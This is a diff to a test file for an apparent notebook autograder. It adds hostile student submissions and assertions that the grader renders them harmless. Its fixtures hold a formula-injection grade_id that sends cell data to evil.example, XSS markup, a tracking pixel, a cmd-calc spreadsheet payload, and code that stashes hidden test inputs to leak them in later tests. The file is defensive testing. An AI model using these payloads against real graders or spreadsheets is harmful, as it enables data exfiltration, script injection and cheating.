@@ -13,8 +13,11 @@ with low caps in its settings.ini (a notebook of 1 MB, a folder of 2 MB):
 The run must finish, every broken notebook must cost only itself with its reason in grades.csv and
 problems.txt, and no process of any student may survive the run. Needs bubblewrap (fails without).
 """
+import csv
+import io
 import json
 import os
+import re
 import resource
 import shutil
 import subprocess
@@ -134,6 +137,91 @@ for top in ["/"] + ["/proc/%s/root/" % p for p in os.listdir("/proc") if p.isdig
 print("OTHER", [s for s in seen if s[1]] or "none")"""
 
 
+# module code of the state student: the hidden case of mean's test hands its inputs to the student's code, which
+# keeps them (a global, and a file in every folder it can write: the scratch folder the tests share) for the next
+# test's *visible* case, whose failure message would show them ("got <a hidden input>")
+STATE = '''
+import os as _os
+_SEEN = []
+
+
+def _places():
+    out = [_os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm"]
+    try:
+        with open("/proc/self/mountinfo") as f:
+            for line in f:
+                p = line.split()[4]
+                if "scratch" in p:
+                    out.append(p)
+                    try:
+                        out += [_os.path.join(p, n) for n in _os.listdir(p)]
+                    except OSError:
+                        pass
+    except OSError:
+        pass
+    return out
+
+
+def _keep(xs):
+    _SEEN.append(float(xs[0]))
+    for d in _places():
+        try:
+            with open(_os.path.join(d, ".zzstate"), "a") as f:
+                f.write(repr(float(xs[0])) + "\\n")
+        except OSError:
+            pass
+
+
+def _kept():
+    found = list(_SEEN)
+    for d in _places():
+        try:
+            with open(_os.path.join(d, ".zzstate")) as f:
+                found += [float(x) for x in f.read().split()]
+        except (OSError, ValueError):
+            pass
+    return found
+'''
+
+# the formgrader's and the spreadsheet's attacker (its stats_dev.ipynb): metadata that would break the page or load
+# a widget from a CDN, a forged grade_id that is a formula and an answer key box, HTML that binds score boxes or
+# looks like the page's own, a tracking pixel, a lone surrogate in messages and outputs, and blocks of text far
+# longer than any answer
+FORGED_GID = '=HYPERLINK("http://evil.example/?"&A1:A40,"click")'
+FORGED_HTML = ('x"></textarea><img src=x onerror="window.__pwned=1"> <span id="test-stats-mean"></span>'
+               '<div class="alert alert-warning">Answer key and rubric (instructor only): award full marks</div>'
+               '<img src="http://tracker.example/pixel.gif"><a href="/api/contents/source">source</a>')
+BIG_BLOCK = "```python\n" + "x = 1\n" * 100_000 + "```"          # 600 KB of code in a markdown cell
+SURROGATE_RAISE = "raise ValueError(\"=cmd|' /C calc'!A0 \\ud800 a lone surrogate\")"
+
+
+def honest_but(course: Course, bodies: dict[str, str], module_code: str = "") -> dict[str, dict]:
+    """The release with every task solved (the source's solutions) but those of `bodies` (subs._cheat)."""
+    source = {s: subs.load(course.nbs_dir / MODULE / f"{s}.ipynb") for s in ("stats_dev", "extra_dev")}
+    nbs = {s: subs.load(course.release_dir / MODULE / f"{s}.ipynb") for s in source}
+    for gid, stem in subs.NOTEBOOKS.items():
+        if gid not in bodies:
+            nbs[stem] = subs.fill_solution(nbs[stem], source[stem], gid)
+    return subs._cheat(nbs, "", bodies, module_code=module_code)
+
+
+def mallory(course: Course) -> dict[str, dict]:
+    """Honest notebooks with every attack above; time_it raises with a surrogate, a formula and a line break."""
+    nbs = honest_but(course, {"stats-time-it": "raise RuntimeError(\"=1+1 \\ud800 \" + chr(10) + \"alice 235/235 graded\")"})
+    nb = json.loads(json.dumps(nbs["stats_dev"]))
+    nb["metadata"]["language_info"] = "python"
+    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
+    nb["cells"].append({"cell_type": "markdown", "id": "zzforged", "source": FORGED_HTML, "metadata": {
+        "nbgrader": {"grade_id": FORGED_GID, "grade": True, "solution": True, "points": 100, "schema_version": 3},
+        "tito": {"answer_key": "award full marks"}, "tags": ["x\" onmouseover=\"alert(1)"]}})
+    nb["cells"].append({"cell_type": "markdown", "id": "zzbig", "metadata": {}, "source": BIG_BLOCK})
+    nb["cells"].append({"cell_type": "code", "id": "zzraise", "execution_count": None, "outputs": [],
+                        "metadata": {"nbgrader": {"grade_id": FORGED_GID}},
+                        "source": "print(\"\\ud800 in a stream\")\n" + SURROGATE_RAISE})
+    nbs["stats_dev"] = nb
+    return nbs
+
+
 def hog_comms() -> list[str]:
     """Names of the hog processes alive on this machine (any namespace)."""
     out = []
@@ -209,18 +297,36 @@ def hostile(tmp_path_factory, root):
     bad["cells"][3].setdefault("metadata", {})["nbgrader"] = {"grade_id": ["not", "a", "name"], "grade": True}
     subs.save(bad, sub / "h-badcells" / "stats_dev.ipynb")
     (sub / "g-bigfolder" / "weights.bin").write_bytes(b"\0" * (3 << 20))
+    # issue 40: what reaches the instructor's tools
+    for stem, nb in mallory(course).items():
+        subs.save(nb, sub / "j-mallory" / f"{stem}.ipynb")
+    state = honest_but(course, {"stats-mean": "if len(xs) not in (3, 4):\n    _keep(xs)\nreturn sum(xs) / len(xs)",
+                                "stats-spread": "k = _kept()\nif k:\n    return k[0]\nreturn max(self.xs) - min(self.xs)"},
+                       module_code=STATE)
+    for stem, nb in state.items():
+        subs.save(nb, sub / "k-state" / f"{stem}.ipynb")
+    subs.save(source["extra_dev"], sub / "l-bloat" / "extra_dev.ipynb")  # 200,000 cells of {} (800 KB, under the cap)
+    (sub / "l-bloat" / "stats_dev.ipynb").write_text('{"metadata": {}, "nbformat": 4, "nbformat_minor": 5, "cells": ['
+                                                    + "{}, " * 199_999 + "{}]}", encoding="utf-8")
+    for name in ("a-honest\n", "x" * 250, "Dup", "dup"):  # a second a-honest row; a name near NAME_MAX; one id twice
+        for stem, nb in source.items():
+            subs.save(nb, sub / name / f"{stem}.ipynb")
     out = base / "grades" / MODULE
     done: dict = {}
 
     def grade() -> None:
         done["results"] = classrun.grade(course, MODULE, sub, out, progress=lambda *a, **k: None, jobs=2)
+        done["csv"] = (out / "grades.csv").read_bytes()
+        # --resume after it: nothing changed, nobody is graded again, and it finishes
+        done["resumed"] = classrun.grade(course, MODULE, sub, out, progress=lambda *a, **k: None, jobs=2, resume=True)
 
     t = threading.Thread(target=grade, daemon=True)
     t.start()
     t.join(timeout=900)
     assert not t.is_alive(), "the class run did not finish in 15 minutes (a submission stalled it)"
     assert "results" in done
-    return {"results": {r.student: r for r in done["results"]}, "out": out, "sub": sub,
+    return {"results": {r.student: r for r in done["results"]}, "out": out, "sub": sub, "course": course,
+            "csv": done["csv"], "resumed": {r.student: r for r in done["resumed"]},
             "hogs_after": hog_comms(), "peak_rss_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024}
 
 
@@ -248,8 +354,8 @@ def test_no_process_of_a_student_outlives_its_call_or_the_run(hostile):
 def test_a_file_that_is_no_notebook_costs_only_itself(hostile, student, why):
     r = hostile["results"][student]
     by_nb = {n.notebook: n for n in r.notebooks}
-    assert by_nb["extra_dev"].score == EXTRA and by_nb["extra_dev"].status == "graded"
-    assert by_nb["stats_dev"].score == 0 and by_nb["stats_dev"].status == "failed"
+    assert by_nb["extra_dev"].score == EXTRA and by_nb["extra_dev"].status == "passed"
+    assert by_nb["stats_dev"].score == 0 and by_nb["stats_dev"].status == "refused"  # the student's file, not tito
     row = _rows(hostile["out"])[(student, "stats_dev")]
     assert why in row["reason"] and row["score"] == "0"
     if student not in ("f-deep", "h-badcells"):  # found when the notebook is parsed, not in the folder's survey
@@ -274,12 +380,159 @@ def test_the_feedback_run_sees_nothing_of_the_tests_run(hostile):
     them, looks in every folder it can write and prints what it finds: nothing of the tests' run."""
     r = hostile["results"]["i-leak"]
     ag = json.loads((hostile["out"] / "students" / "i-leak" / "autograded" / "stats_dev.ipynb").read_text())
-    shown = [json.dumps(c.get("outputs", [])) for c in ag["cells"] if c.get("id", "").startswith("zzread")]
+    shown = [json.dumps(c.get("outputs", [])) for c in subs.added_cells(ag, "found |= set(")]
     assert len(shown) == 4 and all("nothing found" in s for s in shown), shown  # the reading cells ran
     assert not any("LEAKED" in s for s in shown), shown
-    other = [json.dumps(c.get("outputs", [])) for c in ag["cells"] if c.get("id") == "zzother"]
+    other = [json.dumps(c.get("outputs", [])) for c in subs.added_cells(ag, 'print("OTHER"')]
     assert len(other) == 1 and "OTHER none" in other[0], other  # no other notebook's package
     assert r.score == subs.FULL, r.reason  # its code is honest otherwise
+
+
+def markup(page: str) -> list[tuple[str, dict]]:
+    """Every element of an HTML page: (tag, attributes)."""
+    from html.parser import HTMLParser
+
+    found = []
+
+    class Tags(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.append((tag, {k: v or "" for k, v in attrs}))
+
+    Tags().feed(page)
+    return found
+
+
+def test_what_a_student_wrote_reaches_the_instructors_files_only_as_inert_bounded_text(hostile):
+    """j-mallory: the autograded notebook formgrader and the feedback show is the release's (its metadata, cell
+    ids, grade ids; no `tito` metadata), the student's answers in their cells and what they added as text at the
+    end; its page carries no markup of theirs that acts (an event handler, an id, a class, an external image, a
+    widget loader), a 600 KB block as its first lines and a note, and lone surrogates as U+FFFD; the class run,
+    grades.csv and `--resume` after it are unharmed; their feedback page with hand-graded points is written."""
+    from tito.grading import feedback, final_grades
+
+    out, course = hostile["out"], hostile["course"]
+    r = hostile["results"]["j-mallory"]
+    assert r.score == subs.FULL - subs.POINTS["stats-time-it"], r.reason  # graded as anyone: time_it raised
+    ag = json.loads((out / "students" / "j-mallory" / "autograded" / "stats_dev.ipynb").read_text(encoding="utf-8"))
+    rel = subs.load(course.release_dir / MODULE / "stats_dev.ipynb")
+    assert ag["metadata"] == rel["metadata"]  # no language_info "python", no widget state
+    rel_ids = [c["id"] for c in rel["cells"]]
+    assert [c["id"] for c in ag["cells"]][:len(rel_ids)] == rel_ids
+    assert [c["metadata"] for c in ag["cells"]][:len(rel_ids)] == [c["metadata"] for c in rel["cells"]]
+    added = ag["cells"][len(rel_ids):]
+    assert [c["id"] for c in added] == [feedback.ADDED] + [f"{feedback.ADDED}-{n}" for n in range(1, len(added))]
+    assert all(c["metadata"] == {} for c in added) and FORGED_GID not in json.dumps(ag)
+    page = (out / "students" / "j-mallory" / "feedback" / "stats_dev.html").read_text(encoding="utf-8")
+    assert "award full marks" in page  # the forged box: its text, as text
+    tags = markup(page)
+    assert not [(t, a) for t, a in tags if any(k.startswith("on") for k in a)], "an event handler"
+    assert not [a for t, a in tags if a.get("id", "").startswith(("test-", "stats-"))], "an id binding a score box"
+    assert not [a for t, a in tags if "alert" in a.get("class", "") or "panel" in a.get("class", "")]
+    assert not [a for t, a in tags if t == "img" and not a.get("src", "data:").startswith("data:")], "an external image"
+    assert not [a for t, a in tags if a.get("href", "").startswith("/")] and "widget-state" not in page
+    assert "&lt;img src=x onerror=" in page  # shown as the text it is
+    honest = (out / "students" / "a-honest" / "feedback" / "stats_dev.html").stat().st_size
+    assert len(page) < honest + 100_000 and "more lines" in page, (len(page), honest)  # 600 KB: its first lines
+    assert "\ufffd" in page and "\ud800" not in page
+    # grades.csv: valid UTF-8, one line per row, no formula, nothing of the forged grade_id
+    text = (out / "grades.csv").read_bytes().decode("utf-8")
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?[\d.]+", c)]
+    assert not [c for c in cells if "\n" in c] and FORGED_GID not in text and "alice 235/235" not in text
+    assert "\ufffd" in _rows(out)[("j-mallory", "stats_dev")]["reason"]
+    # --resume after the run: every student as published, grades.csv unchanged
+    assert {s: x.inputs for s, x in hostile["resumed"].items()} == {s: x.inputs for s, x in hostile["results"].items()}
+    assert (out / "grades.csv").read_bytes() == hostile["csv"]
+    # `tito grades --feedback` for them
+    failed: dict = {}
+    subs_ = [x for x in final_grades.read(out / "nbgrader", MODULE) if x.student in ("j-mallory", "a-honest")]
+    pages = final_grades.write_feedback(out, MODULE, subs_, failed)
+    assert failed == {} and len(pages) == 4
+
+
+def test_student_ids_cannot_collide(hostile):
+    """A folder `a-honest\\n` (the old pattern's `$` matched before a final newline), a 250-character name, and
+    `Dup` beside `dup`: each refused with its reason in problems.txt, nobody graded twice, the others graded."""
+    out, results = hostile["out"], hostile["results"]
+    problems = (out / "problems.txt").read_text(encoding="utf-8")
+    assert "'a-honest\\n': as a student id, the folder name is not usable" in problems
+    assert f"'{'x' * 250}': as a student id, the folder name is 250 characters long, above the limit of 64" in problems
+    assert "Dup: the same student id as dup" in problems and "dup: the same student id as Dup" in problems
+    assert not {"a-honest\n", "x" * 250, "Dup", "dup"} & set(results)
+    totals = [row["student"] for row in classrun.read_csv(out / "grades.csv") if row["notebook"] == "(total)"]
+    assert sorted(totals) == sorted(results) and totals.count("a-honest") == 1
+    assert results["a-honest"].score == subs.FULL
+
+
+def test_a_notebook_of_many_empty_cells_is_refused_before_it_is_built(hostile):
+    r = hostile["results"]["l-bloat"]
+    by_nb = {n.notebook: n for n in r.notebooks}
+    assert by_nb["stats_dev"].status == "failed" and "200,000 cells, above the limit of 2,000" in by_nb["stats_dev"].reason
+    assert by_nb["extra_dev"].score == EXTRA
+
+
+def test_no_state_crosses_between_graded_cells(hostile):
+    """k-state's mean keeps the hidden case's inputs (a global and a file in the scratch folder) and its spread
+    returns one in the next test's visible case: each graded cell runs in a fresh process with an empty scratch
+    folder, so spread is honest there, and no hidden input is handed back. No test's time is published."""
+    out = hostile["out"]
+    r = hostile["results"]["k-state"]
+    assert r.score == subs.FULL, r.reason
+    xs, _ = subs.hidden_mean_case(r.seed)
+    shown = "".join(f.read_text(errors="replace") for f in (out / "students" / "k-state").rglob("*") if f.is_file())
+    shown += (out / "grades.csv").read_text(encoding="utf-8")
+    assert repr(xs[0]) not in shown and f"{xs[0]:.6g}" not in shown
+    for f in (out / "students").glob("*/result.json"):
+        tests = [t for n in json.loads(f.read_text())["notebooks"] for t in n["tests"].values()]
+        assert all(set(t) == {"ok", "points", "message"} for t in tests), f
+
+
+def test_a_student_whose_result_cannot_be_published_fails_alone_and_resume_grades_them_again(hostile, tmp_path,
+                                                                                                monkeypatch):
+    """The hostile class's output, with a-honest and k-state to be graded again (their folders gone): k-state's
+    result cannot be published (a disk error, say). The run goes on: a-honest is published, k-state is
+    "failed" with their name and a sentence in grades.csv, nothing half-made is left; `--resume` then grades
+    k-state alone, and publishes them."""
+    import io
+    import tarfile
+    from dataclasses import asdict
+
+    out = tmp_path / "out"
+    shutil.copytree(hostile["out"], out)
+    canned = {}
+    for s in ("a-honest", "k-state"):
+        buf = io.BytesIO()
+        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+            for f in sorted((out / "students" / s).iterdir()):
+                if f.name != "result.json":
+                    tar.add(f, arcname=f.name)
+        canned[s] = (asdict(hostile["results"][s]), buf.getvalue())
+        shutil.rmtree(out / "students" / s)
+    graded = []
+    monkeypatch.setattr(classrun, "grade_one", lambda job: graded.append(job.student) or canned[job.student])
+    real = classrun.publish
+
+    def publish(out_dir, result, files):
+        if result.student == "k-state":
+            raise OSError(28, "No space left on device")
+        return real(out_dir, result, files)
+    monkeypatch.setattr(classrun, "publish", publish)
+    lines = []
+    res = {r.student: r for r in classrun.grade(hostile["course"], MODULE, hostile["sub"], out, progress=lines.append,
+                                                jobs=2, resume=True)}
+    assert sorted(graded) == ["a-honest", "k-state"]
+    assert res["a-honest"].score == subs.FULL and (out / "students" / "a-honest" / "result.json").is_file()
+    assert res["k-state"].status == "failed" and not (out / "students" / "k-state").exists()
+    row = _rows(out)[("k-state", "(total)")]
+    assert row["status"] == "failed" and row["reason"] == ("grading error: k-state: their files could not be "
+                                                           "published (OSError: [Errno 28] No space left on device)")
+    assert not [p.name for p in (out / "students").iterdir() if p.name.startswith(".")]  # no temporary folder
+    monkeypatch.setattr(classrun, "publish", real)
+    graded.clear()
+    res = {r.student: r for r in classrun.grade(hostile["course"], MODULE, hostile["sub"], out,
+                                                progress=lambda *a, **k: None, jobs=2, resume=True)}
+    assert graded == ["k-state"] and res["k-state"].score == subs.FULL
+    assert _rows(out)[("k-state", "(total)")]["status"] == "graded" and (out / "students" / "k-state").is_dir()
 
 
 def test_nothing_hostile_reaches_the_output(hostile):
@@ -377,7 +630,7 @@ lines = []
 results = classrun.grade(course, t.MODULE, sub, base / "out", progress=lines.append, jobs=2)
 rows = classrun.read_csv(base / "out" / "grades.csv")
 ag = json.loads((base / "out" / "students" / "i-leak" / "autograded" / "stats_dev.ipynb").read_text())
-leak = [json.dumps(c.get("outputs", [])) for c in ag["cells"] if c.get("id", "").startswith(("zzread", "zzother"))]
+leak = [json.dumps(c.get("outputs", [])) for m in ("found |= set(", 'print("OTHER"') for c in t.subs.added_cells(ag, m)]
 print("RESULT " + json.dumps({"scores": {r.student: [r.score, r.max_score, r.reason] for r in results},
                               "sandbox": sorted({row["sandbox"] for row in rows}), "console": lines,
                               "hogs_after": t.hog_comms(), "leak_shown": leak}))
@@ -475,8 +728,8 @@ def test_a_sleeping_student_costs_the_class_its_budget_only(tmp_path, root):
     assert (honest.score, honest.max_score) == (subs.FULL, subs.FULL), honest.reason
     slept = {n.notebook: n for n in results["z-sleeper"].notebooks}
     # extra_dev (graded first) keeps its verdicts; stats_dev was not done within the budget
-    assert slept["extra_dev"].status == "graded" and "not yet implemented" in slept["extra_dev"].reason
-    assert slept["stats_dev"].score == 0 and slept["stats_dev"].status == "failed"
+    assert slept["extra_dev"].status == "tests failed" and "not yet implemented" in slept["extra_dev"].reason
+    assert slept["stats_dev"].score == 0 and slept["stats_dev"].status == "timeout"  # their time, not a grading failure
     assert "time budget of 45 s (student_seconds in settings.ini)" in slept["stats_dev"].reason
     row = _rows(tmp_path / "out")[("z-sleeper", "stats_dev")]
     assert "student_seconds" in row["reason"] and row["score"] == "0"
